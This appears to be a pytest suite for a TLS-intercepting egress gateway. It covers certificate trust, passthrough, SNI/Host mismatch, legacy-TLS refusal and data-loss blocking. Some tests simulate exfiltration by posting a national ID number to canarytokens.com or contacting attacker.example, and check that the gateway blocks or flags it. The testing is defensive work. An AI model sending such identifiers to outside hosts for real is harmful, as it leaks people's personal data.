"""TLS that is read: the story over HTTPS, whom the client is shown, and whom the gateway trusts."""

import os
import socket
import ssl
import struct
import subprocess
import time

import pytest

from gateway import SSN_SENSOR, body_of
from net import ATTACKER, CANARY, ORIGIN, OTHER, PLAIN, POD, POD_DH157, POD_OTHER, SECOND
from peers import Origin, answer, echo
from tlspeers import Authority, client, over_tls, self_signed
from wire import read_all, read_response, request

NUMBER = b"295109912611193"

SERVICES = SSN_SENSOR + """
services:
  - {name: myapp.default, mode: protect, sensors: {nir: deny}, rules: [{to: any, action: allow}]}
  - {name: dh157.default, mode: monitor, sensors: {nir: alert}, rules: [{to: any, action: allow}]}
  - name: other.default
    mode: protect
    sensors: {nir: deny}
    rules:
      - {to: origin.example, applications: [HTTP], action: allow}
      - {to: www.origin.example, action: allow}
      - {to: second.example, applications: [SMTP], action: allow}
"""


@pytest.fixture(scope="session")
def outside(tmp_path_factory):
    return Authority(tmp_path_factory.mktemp("outside"))


@pytest.fixture(scope="session")
def identities(outside):
    """The stems of certificates by name."""
    names = ["origin.example", "www.origin.example", "canarytokens.com", "attacker.example", "other.example"]
    return {name: outside.sign(name) for name in names}


@pytest.fixture(scope="module")
def gateway(shared, outside):
    return shared(SERVICES + f'tls: {{trust: "{outside.certificate}", passthrough: ["other.example"]}}\n')


def ca(gateway):
    return os.path.join(gateway.directory, "state/ca.pem")


def https(world, gateway, url, *words, source=POD, **options):
    return world.curl("--cacert", ca(gateway), *words, url, source=source, **options)


def connect(world, gateway, name, address=ORIGIN, port=443, source=POD, timeout=10, context=None):
    sock = world.connect(address, port, source=source, timeout=timeout)
    # An end without close_notify is no end.
    return (context or client(ca(gateway))).wrap_socket(sock, server_hostname=name, suppress_ragged_eofs=False)


def test_the_story_over_https(world, gateway, resolver, outside, identities):
    posted = f"name=Jeanne+Moreau&nir={NUMBER.decode()}&end=1"
    server = over_tls(outside.server(identities["canarytokens.com"]))
    with Origin(world, 443, CANARY, handler=server) as origin:
        # Monitor: it goes through, and the event names a masked match.
        words = ["https://canarytokens.com/stuff/collect", "--http1.1", "-d", posted]
        done = https(world, gateway, *words, source=POD_DH157)
        assert body_of(done) == (200, "ok\n")
        event = gateway.events(kind="finding", service="dh157.default")[0]
        assert event["finding"]["match"] == "2*************3" and event["fqdn"] == "canarytokens.com"
        assert NUMBER in origin.received
        # Protect: a clear 403, and not one byte of the number outside.
        origin.forget()
        done = https(world, gateway, *words)
        status, body = body_of(done)
        assert status == 403 and '"reason":"finding"' in body
        assert NUMBER not in origin.received and b"nir=" not in origin.received
    session = gateway.sessions(service="myapp.default", fqdn="canarytokens.com", status=403)[0]
    assert session["application"] == "HTTP" and session["method"] == "POST" and session["action"] == "deny"
    tls = session["tls"]
    assert tls["handling"] == "intercepted" and tls["version"] == "1.3" and tls["sni"] == "canarytokens.com"
    assert tls["alpn"] == "http/1.1" and tls["cipher"].startswith("TLS_") and tls["ja4"].startswith("t13d")
    allowed = gateway.sessions(service="dh157.default", fqdn="canarytokens.com", status=200)[0]["tls"]
    assert allowed["issuer"] == "CN=Outside authority" and len(allowed["fingerprint"]) == 64
    assert allowed["upstream_version"] == "1.3"


def test_the_certificate_that_clients_see(world, gateway, resolver, outside, identities, tmp_path):
    with Origin(world, 443, handler=over_tls(outside.server(identities["origin.example"]))):
        with connect(world, gateway, "origin.example") as tls:
            shown = tls.getpeercert()
            der = tls.getpeercert(binary_form=True)
        assert shown["subjectAltName"] == (("DNS", "origin.example"),)
        leaf = tmp_path / "leaf.pem"
        leaf.write_text(ssl.DER_cert_to_PEM_cert(der))
        done = subprocess.run(
            ["openssl", "verify", "-x509_strict", "-purpose", "sslserver", "-verify_hostname", "origin.example",
             "-CAfile", ca(gateway), leaf], capture_output=True, text=True)
        assert done.returncode == 0, done.stdout + done.stderr
    assert oct(os.stat(os.path.join(gateway.directory, "state/ca.key")).st_mode & 0o777) == "0o600"


def test_an_address_is_shown_a_certificate_for_it(world, gateway, outside):
    stem = outside.sign(ORIGIN, stem="address")
    with Origin(world, 8443, handler=over_tls(outside.server(stem))) as origin:
        done = https(world, gateway, f"https://{ORIGIN}:8443/x", source=POD_DH157)
        assert body_of(done) == (200, "ok\n")
        assert origin.requests == 1


def test_many_exchanges_of_one_connection(world, gateway, resolver, outside, identities):
    with Origin(world, 443, handler=over_tls(outside.server(identities["origin.example"]))) as origin:
        with connect(world, gateway, "origin.example") as tls:
            for index in range(50):
                tls.sendall(request("POST", path=f"/{index}", host="origin.example", body=b"x" * (index * 700)))
                assert read_response(tls)[0] == 200
        assert origin.requests == 50 and len(origin.conversations) == 1


@pytest.mark.parametrize("version", [ssl.TLSVersion.TLSv1_2, ssl.TLSVersion.TLSv1_3])
def test_a_client_comes_back_with_its_ticket(world, gateway, resolver, outside, identities, version):
    context = client(ca(gateway), maximum_version=version)
    with Origin(world, 443, handler=over_tls(outside.server(identities["origin.example"]))):
        session = None
        for turn in range(3):
            sock = world.connect(ORIGIN, 443)
            with context.wrap_socket(sock, server_hostname="origin.example", session=session) as tls:
                tls.sendall(request(host="origin.example"))
                assert read_response(tls)[0] == 200
                assert tls.session_reused == (turn > 0)
                session = tls.session


def test_a_ticket_is_good_for_its_name_only(world, gateway, resolver, outside, identities):
    context = client(ca(gateway))
    stem = outside.sign("origin.example", "www.origin.example", stem="both-names")
    with Origin(world, 443, handler=over_tls(outside.server(stem))):
        with context.wrap_socket(world.connect(ORIGIN, 443), server_hostname="origin.example") as tls:
            tls.sendall(request(host="origin.example"))
            assert read_response(tls)[0] == 200
            session = tls.session
        other = context.wrap_socket(world.connect(ORIGIN, 443), server_hostname="www.origin.example", session=session)
        with other as tls:
            assert not tls.session_reused
            assert tls.getpeercert()["subjectAltName"] == (("DNS", "www.origin.example"),)


def test_connections_to_the_origin_are_resumed_and_kept(world, gateway, resolver, outside, identities):
    reused = []

    def handler(conversation):
        reused.append(conversation.tls.session_reused)
        conversation.read_request()
        conversation.send(answer(fields=b"connection: close\r\n"))

    context = outside.server(identities["www.origin.example"])
    with Origin(world, 443, handler=over_tls(context, handler)):
        for _ in range(6):
            assert body_of(https(world, gateway, "https://www.origin.example/"))[0] == 200
    # Two workers, each with a memory of its own.
    assert len(reused) == 6 and reused.count(True) >= 2


# Who is trusted


@pytest.mark.parametrize("fault, words", [
    ("expired", "has expired"), ("self-signed", "self-signed"), ("wrong-name", "for another name"),
    ("unknown-authority", "neither trusted nor"), ("no-names", "for no name"), ("weak", "signature"),
    ("incomplete-chain", "was issued by CN=Intermediate, which is neither trusted nor"),
])
def test_an_origin_that_is_not_to_be_trusted(world, gateway, resolver, outside, tmp_path, fault, words):
    stranger = Authority(tmp_path / "stranger", "Stranger")
    if fault == "expired":
        stem = outside.sign("plain.example", stem=fault, ended=True)
    elif fault == "self-signed":
        stem = self_signed(stranger.path("self"), "plain.example")
    elif fault == "wrong-name":
        stem = outside.sign("elsewhere.example", stem=fault)
    elif fault == "unknown-authority":
        stem = stranger.sign("plain.example")
    elif fault == "incomplete-chain":
        stem = outside.intermediate().sign("plain.example")
    elif fault == "no-names":
        stem = outside.sign(stem="plain.example")
    else:
        stem = outside.sign("plain.example", stem=fault, digest="sha1")
    context = outside.server(stem) if fault != "weak" else weakly(outside, stem)
    with Origin(world, 443, PLAIN, handler=over_tls(context)) as origin:
        status, body = body_of(https(world, gateway, f"https://plain.example/{fault}", source=POD))
        assert status == 502 and words in body, body
        assert not origin.received
    session = gateway.sessions(path="/" + fault, status=502)[0]
    assert session["threat"] == "untrusted_upstream" and words in session["tls"]["why"]


def test_an_origin_that_sends_its_whole_chain(world, gateway, resolver, outside):
    between = outside.intermediate()
    stem = between.sign("plain.example")
    with open(stem + ".pem", "a") as file, open(between.certificate) as issuer:
        file.write(issuer.read())
    with Origin(world, 443, PLAIN, handler=over_tls(outside.server(stem))):
        assert body_of(https(world, gateway, "https://plain.example/whole-chain")) == (200, "ok\n")


def weakly(outside, stem):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.set_ciphers("DEFAULT:@SECLEVEL=0")
    context.load_cert_chain(stem + ".pem", stem + ".key")
    return context


def test_a_client_that_does_not_trust_us_in_protect(world, gateway, resolver, outside, identities):
    with Origin(world, 443, handler=over_tls(outside.server(identities["origin.example"]))) as origin:
        for _ in range(2):
            done = world.curl("--cacert", outside.certificate, "https://origin.example/x")
            assert done.returncode == 60, done
        assert not origin.conversations
    sessions = gateway.sessions(2, service="myapp.default", fqdn="origin.example", application="TLS")
    assert [session["tls"]["handling"] for session in sessions[-2:]] == ["refused"] * 2
    assert all(session["tls"]["why"] == "untrusted_authority" for session in sessions[-2:])
    # What the client said of it, in the words of RFC 8446.
    assert all(session["tls"]["alert"] == "unknown CA (48)" for session in sessions[-2:])


def test_a_client_that_does_not_trust_us_in_monitor(world, gateway, resolver, outside, identities):
    with Origin(world, 443, handler=over_tls(outside.server(identities["attacker.example"])), address=ATTACKER) as origin:
        def go():
            return world.curl("--cacert", outside.certificate, "https://attacker.example/x", source=POD_DH157)
        assert go().returncode == 60
        # From then on it passes, and the record says so.
        assert body_of(go()) == (200, "ok\n")
        assert origin.requests == 1
        # Whoever trusts us is not read now either: the name passes for the service.
        first, second = gateway.sessions(2, service="dh157.default", fqdn="attacker.example")
        # They are written by two workers, in either order.
        refused, passed = (first, second) if first["tls"]["handling"] == "refused" else (second, first)
        assert passed["action"] == "alert" and passed["tls"] == {
            **passed["tls"], "handling": "passed", "why": "untrusted_authority", "sni": "attacker.example"}
        assert passed["uninspectable"] == "tunnel"
        # Of another service it is read all the same.
        done = https(world, gateway, "https://attacker.example/", source=POD)
        assert body_of(done)[0] == 200
    assert refused["tls"]["handling"] == "refused" and refused["tls"]["why"] == "untrusted_authority"


def test_an_origin_that_wants_a_certificate(world, gateway, resolver, outside):
    """Only the client has it: said so, and outside Protect passed from then on."""
    stem = outside.sign("second.example")
    context = outside.server(stem)
    context.verify_mode = ssl.CERT_REQUIRED
    context.load_verify_locations(outside.certificate)
    mine = outside.sign("me", stem="me")
    resolver.names["mutual.example"] = [PLAIN]
    stem = outside.sign("mutual.example")
    context.load_cert_chain(stem + ".pem", stem + ".key")
    with Origin(world, 443, PLAIN, handler=over_tls(context)) as origin:
        words = ["--cert", mine + ".pem", "--key", mine + ".key", "https://mutual.example/x"]
        status, body = body_of(https(world, gateway, words[-1], *words[:-1], source=POD_DH157))
        assert status == 502 and "certificate" in body, body
        done = world.curl("--cacert", outside.certificate, *words, source=POD_DH157)
        assert body_of(done) == (200, "ok\n")
        assert origin.requests == 1
    sessions = gateway.sessions(2, service="dh157.default", fqdn="mutual.example")
    assert {session["tls"]["handling"] for session in sessions} == {"intercepted", "passed"}
    assert all(session["tls"]["why"] == "client_certificate" for session in sessions)


# What is not read


def test_names_that_are_passed_through(world, gateway, resolver, outside, identities):
    with Origin(world, 443, OTHER, handler=over_tls(outside.server(identities["other.example"]))) as origin:
        done = world.curl("--cacert", outside.certificate, "https://other.example/x", source=POD_DH157)
        assert body_of(done) == (200, "ok\n")
        assert origin.requests == 1
    session = gateway.sessions(service="dh157.default", fqdn="other.example")[0]
    assert session["application"] == "TLS" and session["tls"]["handling"] == "passed"
    assert session["tls"]["why"] == "tls.passthrough"


def test_a_name_that_no_rule_allows(world, gateway, resolver, outside, identities):
    with Origin(world, 443, ATTACKER, handler=over_tls(outside.server(identities["attacker.example"]))) as origin:
        done = https(world, gateway, "https://attacker.example/", source=POD_OTHER)
        assert done.returncode in (35, 56), done
        assert not origin.conversations
    session = gateway.sessions(service="other.default", fqdn="attacker.example")[0]
    assert session["action"] == "deny" and session["tls"]["handling"] == "refused"


def test_a_rule_for_http_covers_https(world, gateway, resolver, outside, identities):
    with Origin(world, 443, handler=over_tls(outside.server(identities["origin.example"]))) as origin:
        words = ["https://origin.example/", "--http1.1"]
        assert body_of(https(world, gateway, *words, source=POD_OTHER)) == (200, "ok\n")
        assert origin.requests == 1


# Names


def test_another_name_inside_than_outside(world, gateway, resolver, outside, identities):
    """A front that is allowed does not lead to a host behind it that is not."""
    stem = outside.sign("origin.example", "attacker.example", stem="front")
    with Origin(world, 443, handler=over_tls(outside.server(stem))) as front, \
            Origin(world, 443, ATTACKER, handler=over_tls(outside.server(identities["attacker.example"]))) as hidden:
        with connect(world, gateway, "origin.example", source=POD_OTHER) as tls:
            tls.sendall(request(host="attacker.example"))
            assert read_response(tls)[0] == 403
        assert not front.received and not hidden.received
        # Where any name is allowed it goes to the host's own addresses, never to the front, and is told.
        with connect(world, gateway, "origin.example", source=POD_DH157) as tls:
            tls.sendall(request(host="attacker.example"))
            assert read_response(tls)[0] == 200
        assert not front.received and hidden.requests == 1
    session = gateway.sessions(service="dh157.default", threat="sni_host_mismatch")[0]
    assert session["fqdn"] == "attacker.example" and session["tls"]["sni"] == "origin.example"


def test_another_name_of_the_same_domain(world, gateway, resolver, outside, identities):
    with Origin(world, 443, handler=over_tls(outside.server(identities["www.origin.example"]))) as origin:
        with connect(world, gateway, "origin.example", source=POD_OTHER) as tls:
            tls.sendall(request(host="www.origin.example"))
            assert read_response(tls)[0] == 200
        assert origin.requests == 1


def test_old_versions_are_a_threat(world, gateway, resolver):
    hello = bytes.fromhex("0301") + bytes(32) + b"\0" + bytes.fromhex("0004c009c013") + b"\1\0"
    name = b"origin.example"
    sni = struct.pack(">HHHBH", 0, len(name) + 5, len(name) + 3, 0, len(name)) + name
    hello += struct.pack(">H", len(sni)) + sni
    hello = b"\1" + struct.pack(">I", len(hello))[1:] + hello
    with Origin(world, 443, handler=echo) as origin:
        sock = world.connect(ORIGIN, 443)
        sock.sendall(b"\x16\x03\x01" + struct.pack(">H", len(hello)) + hello)
        assert read_all(sock)[1] in ("reset", "end")
        assert not origin.conversations
    assert gateway.sessions(threat="tls_legacy")[0]["action"] == "deny"


# Cuts and ends


def test_every_cut_of_the_handshake(world, gateway, resolver, outside, identities):
    """The client's bytes come one by one, in twos, and in halves at every place of the ClientHello."""
    context = client(ca(gateway))
    with Origin(world, 443, handler=over_tls(outside.server(identities["origin.example"]))):
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        probe = context.wrap_bio(incoming, outgoing, server_hostname="origin.example")
        with pytest.raises(ssl.SSLWantReadError):
            probe.do_handshake()
        length = len(outgoing.read())
        for cut in [1] + list(range(2, length, 37)):
            assert talk(world, context, cut) == 200, cut


def talk(world, context, cut):
    """A request whose first `cut` bytes of TLS come alone, and for 1 every byte does."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname="origin.example")
    sock = world.connect(ORIGIN, 443)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    first = True

    def send():
        nonlocal first
        data = outgoing.read()
        pieces = [data]
        if cut == 1:
            pieces = [data[at:at + 1] for at in range(len(data))]
        elif first and len(data) > cut:
            pieces = [data[:cut], data[cut:]]
        first = first and not data
        for piece in pieces:
            sock.sendall(piece)
            if cut != 1:
                time.sleep(0.002)

    def until_done(step):
        while True:
            try:
                result = step()
                send()
                return result
            except ssl.SSLWantReadError:
                send()
                data = sock.recv(65536)
                if not data:
                    raise ConnectionError("ended") from None
                incoming.write(data)

    until_done(tls.do_handshake)
    tls.write(request(host="origin.example"))
    send()
    head = until_done(lambda: tls.read(65536))
    sock.close()
    return int(head.split()[1])


def test_a_body_that_ends_with_the_connection(world, gateway, resolver, outside, identities):
    """close_notify is its end; without it the client sees that something is missing."""
    def whole(conversation):
        conversation.read_request()
        conversation.send(b"HTTP/1.1 200 OK\r\n\r\n" + b"a" * 100_000)

    def torn(conversation):
        whole(conversation)
        conversation.raw.shutdown(socket.SHUT_RDWR)
        raise OSError

    context = outside.server(identities["origin.example"])
    with Origin(world, 443, handler=over_tls(context, whole)):
        with connect(world, gateway, "origin.example") as tls:
            tls.sendall(request(host="origin.example"))
            data, how = read_all(tls)
            assert how == "end" and data.endswith(b"a" * 1000) and data.count(b"a") >= 100_000
    with Origin(world, 443, handler=over_tls(context, torn)):
        with connect(world, gateway, "origin.example") as tls:
            tls.sendall(request(host="origin.example"))
            try:
                assert read_all(tls)[1] != "end"
            except ssl.SSLError:
                pass


def test_garbage_after_the_hello(world, gateway, resolver):
    context = client(ca(gateway))
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    with pytest.raises(ssl.SSLWantReadError):
        context.wrap_bio(incoming, outgoing, server_hostname="origin.example").do_handshake()
    sock = world.connect(ORIGIN, 443)
    sock.sendall(outgoing.read() + b"\0" * 5000)
    assert read_all(sock)[1] in ("end", "reset")
    assert gateway.admin("/readyz")[0] == 200


def test_other_protocols_inside(world, gateway, resolver, outside, identities):
    """What is no HTTP is a tunnel whose bytes are read all the same."""
    server = over_tls(outside.server(identities["origin.example"], alpn=["private/1"]), echo)
    with Origin(world, 8443, handler=server) as origin:
        context = client(ca(gateway), alpn=["private/1"])
        with connect(world, gateway, "origin.example", port=8443, context=context) as tls:
            assert tls.selected_alpn_protocol() == "private/1"
            tls.sendall(b"\0\1\2\3 hello\n")
            assert tls.recv(100) == b"\0\1\2\3 hello\n"
            tls.sendall(b"nir " + NUMBER + b" ")
            with pytest.raises((ConnectionResetError, ssl.SSLError)):
                while tls.recv(100):
                    pass
        assert NUMBER not in origin.received


@pytest.mark.parametrize("version", [ssl.TLSVersion.TLSv1_2, ssl.TLSVersion.TLSv1_3])
def test_a_server_that_speaks_first_inside(world, gateway, resolver, outside, version):
    """Judged by its greeting, and not by what TLS sends before it."""
    def greet(conversation):
        time.sleep(0.5)
        conversation.send(b"220 second.example ESMTP\r\n")
        conversation.read()

    context = outside.server(outside.sign("second.example"))
    context.maximum_version = version
    with Origin(world, 465, SECOND, handler=over_tls(context, greet)):
        with connect(world, gateway, "second.example", SECOND, 465, source=POD_OTHER) as tls:
            assert tls.recv(100) == b"220 second.example ESMTP\r\n"
    assert gateway.sessions(service="other.default", fqdn="second.example", application="SMTP")[0]["action"] == "allow"


def test_connect_and_https(world, gateway, resolver, outside, identities):
    with Origin(world, 443, handler=over_tls(outside.server(identities["origin.example"]))) as origin:
        words = ["--proxy", "http://10.244.0.1:3128", "-d", b"nir=" + NUMBER]
        status, _ = body_of(https(world, gateway, "https://origin.example/", *words))
        assert status == 403 and NUMBER not in origin.received
        words[-1] = "fine"
        assert body_of(https(world, gateway, "https://origin.example/", *words)) == (200, "ok\n")


def test_a_client_is_not_led_elsewhere(world, gateway, resolver, outside, identities):
    def handler(conversation):
        while conversation.read_request():
            conversation.send(answer(fields=b'alt-svc: h3=":443"; ma=86400\r\n'))

    with Origin(world, 443, handler=over_tls(outside.server(identities["origin.example"]), handler)):
        done = https(world, gateway, "https://origin.example/", "-i")
        assert body_of(done)[0] == 200 and "alt-svc" not in done.stdout.lower()


def test_an_early_answer_to_a_big_upload(world, gateway, resolver, outside, identities):
    """An origin that takes no more of the request is heard all the same."""
    def early(conversation):
        conversation.read_until(b"\r\n\r\n")
        conversation.send(answer(b"too much", b"413 Content Too Large", b"connection: close\r\n"))
        time.sleep(3)

    with Origin(world, 443, handler=over_tls(outside.server(identities["origin.example"]), early)):
        with connect(world, gateway, "origin.example", source=POD_DH157) as tls:
            tls.sendall(b"POST /big HTTP/1.1\r\nhost: origin.example\r\ncontent-length: 100000000\r\n\r\n")
            tls.settimeout(0.5)
            sent = 0
            try:
                for _ in range(2000):
                    sent += tls.send(b"a" * 50_000)
            except (TimeoutError, OSError, ssl.SSLError):
                pass
            tls.settimeout(5)
            assert tls.recv(100).startswith(b"HTTP/1.1 413")
